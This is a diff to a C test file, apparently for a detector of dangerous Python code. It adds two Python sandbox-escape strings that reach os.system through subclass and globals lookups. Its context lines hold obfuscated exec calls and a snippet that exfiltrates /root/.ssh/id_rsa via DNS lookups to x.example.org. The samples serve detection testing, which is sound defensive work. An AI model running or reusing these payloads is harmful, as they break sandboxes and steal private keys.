@@ -190,6 +190,10 @@ static void sees_modules_by_all_doors(void **state)
         {"hidden-code", "getattr(len.__self__, 'exec')(__import__('zlib').decompress(b'x'))\n"},
         {"import-process", "import functools, os\nfunctools.reduce(getattr, ['system'], os)('id')\n"},
         {"import-process", "import functools, shutil\nfunctools.reduce(getattr, ('os', 'sys' + 'tem'), shutil)('id')\n"},
+        /* what no name leads to */
+        {"import-process", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
+                           ".__init__.__globals__['system']('id')\n"},
+        {"import-process", "().__class__.__base__.__subclasses__()[130].__init__.__globals__['sys'].modules['os'].system('id')\n"},
         /* a secret stays one in every coding */
         {"dns-theft", "import socket, base64\nk = base64.b32encode(open('/root/.ssh/id_rsa', 'rb').read()).decode()\n"
                       "socket.gethostbyname(k[:60] + '.x.example.org')\n"},
